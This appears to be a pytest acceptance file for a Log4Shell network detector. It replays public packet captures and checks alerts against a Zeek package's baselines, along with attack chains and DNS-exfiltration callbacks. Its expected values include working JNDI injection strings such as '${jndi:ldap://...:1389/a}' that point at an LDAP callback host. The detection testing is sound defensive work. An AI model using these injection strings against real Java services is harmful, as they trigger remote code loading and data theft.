"""Acceptance on the public captures in ../shared: every notice the Zeek package raises on them
(its test baselines, listed in the captures' README), plus the attempts it misses."""

from __future__ import annotations

import pytest

from kubectl_netmon.detect.log4shell import chains
from tests.detect.replay import replay

# Every behaviour here holds on the compiled common case and on the Python reference alike.
pytestmark = pytest.mark.usefixtures("speedups_off")

# capture -> the Zeek package's notices: (note, orig_h, orig_p, resp_h, resp_p)
ZEEK_BASELINE = {
    "log4j-attack.pcap": [
        ("LOG4J_LDAP_JAVA", "198.51.100.10", 39010, "203.0.113.217", 1389),
        ("LOG4J_JAVA_CLASS_DOWNLOAD", "198.51.100.10", 56958, "203.0.113.217", 8000),
    ],
    "log4j-dns_exfil.pcap": [
        ("LOG4J_ATTEMPT_HEADER", "10.10.10.31", 36580, "172.16.238.10", 8080),
    ],
    "log4j-user_agent.pcap": [
        ("LOG4J_ATTEMPT_HEADER", "10.10.10.31", 53996, "172.16.238.10", 8080),
        ("LOG4J_LDAP_JAVA", "172.16.238.10", 59274, "172.16.238.11", 1389),
        ("LOG4J_JAVA_CLASS_DOWNLOAD", "172.16.238.10", 50066, "172.16.238.11", 80),
    ],
    "log4j-webapp.pcap": [
        ("LOG4J_LDAP_JAVA", "172.16.238.10", 57650, "172.16.238.11", 1389),
        ("LOG4J_JAVA_CLASS_DOWNLOAD", "172.16.238.10", 48444, "172.16.238.11", 80),
        ("LOG4J_JAVA_CLASS_DOWNLOAD", "172.16.238.10", 48534, "172.16.238.11", 80),
    ],
    "spcap-CEXKLs3NQWdEM2CoMj-1639421287179170294-1.pcap": [
        ("LOG4J_ATTEMPT_HEADER", "154.65.28.250", 57932, "172.16.4.58", 80),
    ],
}

# What the Zeek package misses: (capture, note, orig_h, orig_p, resp_h, resp_p, normalised)
MISSED_BY_ZEEK = [
    ("log4j-attack.pcap", "LOG4J_ATTEMPT_BODY", "203.0.113.217", 43422, "198.51.100.10", 8080,
     "${jndi:ldap://203.0.113.217:1389/a}"),
    ("log4j-webapp.pcap", "LOG4J_ATTEMPT_BODY", "172.16.238.1", 1984, "172.16.238.10", 8080,
     "${jndi:ldap://172.16.238.11:1389/a}"),
    ("log4j-webapp.pcap", "LOG4J_ATTEMPT_HEADER", "172.16.238.1", 1984, "172.16.238.10", 8080,
     "jndi:ldap://172.16.238.11:1389/a"),
]

# capture -> (attacker, victim, callback server) of its one chain
CHAINS = {
    "log4j-attack.pcap": ("203.0.113.217", "198.51.100.10:8080", "203.0.113.217:1389"),
    "log4j-dns_exfil.pcap": ("10.10.10.31", "172.16.238.10:8080", "10.10.10.31:53"),
    "log4j-user_agent.pcap": ("10.10.10.31", "172.16.238.10:8080", "172.16.238.11:1389"),
    "log4j-webapp.pcap": ("172.16.238.1", "172.16.238.10:8080", "172.16.238.11:1389"),
}


def ids(notice) -> tuple:
    return (notice.note.split("::")[1], notice.orig_h, notice.orig_p, notice.resp_h,
            notice.resp_p)


@pytest.mark.parametrize("capture", sorted(ZEEK_BASELINE))
def test_every_zeek_package_notice_is_raised(shared_pcaps, capture):
    raised = {ids(n) for n in replay(shared_pcaps / capture)}
    assert set(ZEEK_BASELINE[capture]) <= raised


@pytest.mark.parametrize(("capture", "note", "orig_h", "orig_p", "resp_h", "resp_p", "normalised"),
                         MISSED_BY_ZEEK)
def test_attempts_the_zeek_package_misses_are_raised(shared_pcaps, capture, note, orig_h, orig_p,
                                                     resp_h, resp_p, normalised):
    raised = [n for n in replay(shared_pcaps / capture)
              if ids(n) == (note, orig_h, orig_p, resp_h, resp_p)]
    assert [f"normalised='{normalised}'" in n.sub for n in raised] == [True]


def test_dns_exfiltration_is_a_callback_carrying_the_leaked_value(shared_pcaps):
    notices = replay(shared_pcaps / "log4j-dns_exfil.pcap")
    [callback] = [n for n in notices if n.note.endswith("LOG4J_CALLBACK")]
    assert (callback.orig_h, callback.resp_h, callback.resp_p, callback.extra["dns.query"]) == (
        "172.16.238.10", "10.10.10.31", 53, "1qaz2wsx")


def test_ldap_callback_is_correlated_with_the_header_attempt(shared_pcaps):
    notices = replay(shared_pcaps / "log4j-user_agent.pcap")
    [callback] = [n for n in notices if n.note.endswith("LOG4J_CALLBACK")]
    [attempt] = [n for n in notices if n.note.endswith("LOG4J_ATTEMPT_HEADER")]
    assert callback.extra["attempt.uid"] == attempt.uid
    assert (callback.resp_h, callback.resp_p) == ("172.16.238.11", 1389)


def test_repeated_ldap_reply_from_one_server_is_suppressed_and_counted(shared_pcaps):
    notices = replay(shared_pcaps / "log4j-webapp.pcap")
    [ldap] = [n for n in notices if n.note.endswith("LOG4J_LDAP_JAVA")]
    assert ldap.extra["suppressed"] == 1


@pytest.mark.parametrize("capture", sorted(CHAINS))
def test_each_capture_is_one_chain_with_attacker_victim_and_callback(shared_pcaps, capture):
    [chain] = chains(replay(shared_pcaps / capture))
    assert (chain.attacker, chain.victim, chain.callback) == CHAINS[capture]
